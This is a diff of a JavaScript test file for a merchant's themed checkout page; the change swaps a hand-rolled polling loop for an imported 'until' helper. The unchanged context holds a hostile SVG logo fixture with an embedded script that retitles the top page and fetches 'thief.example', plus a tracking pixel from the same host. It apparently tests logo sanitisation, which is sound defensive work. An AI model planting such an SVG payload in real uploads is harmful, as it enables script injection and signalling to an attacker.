@@ -6,6 +6,7 @@ import { join } from 'node:path';
 import { after, afterEach, before, describe, test } from 'node:test';
 import AxeBuilder from '@axe-core/playwright';
 import { start } from './harness.mjs';
+import { until } from './support/until.mjs';
 
 const TIMEOUT = 60_000;
 const ACCENT = { light: '#c2185b', dark: '#ff80ab' };
@@ -21,7 +22,6 @@ const LOGO = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 30">
 <script>top.document.title = 'taken over'; fetch('https://thief.example/')</script>
 <image href="https://thief.example/pixel.png" width="1" height="1"/></svg>`;
 
-const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
 
 /** `rgb(194, 24, 91)` as `#c2185b`. */
 const hex = (colour) => `#${colour.match(/\d+/g).slice(0, 3).map((it) => Number(it).toString(16).padStart(2, '0')).join('')}`;
@@ -62,16 +62,8 @@ describe('the look of a merchant', { timeout: 4 * TIMEOUT }, () => {
     return { visitor, page, checkout };
   }
 
-  async function untilServed(address, expected) {
-    const deadline = Date.now() + 10_000;
-    for (;;) {
-      const response = await fetch(address);
-      const text = await response.text();
-      if (text.includes(expected)) return;
-      assert.ok(Date.now() < deadline, `the page never had ${expected}`);
-      await pause(50);
-    }
-  }
+  const untilServed = (address, expected) =>
+    until(async () => (await (await fetch(address)).text()).includes(expected), `a page with ${expected}`);
 
   const styleOf = (locator, property) =>
     locator.evaluate((element, name) => getComputedStyle(element).getPropertyValue(name), property);
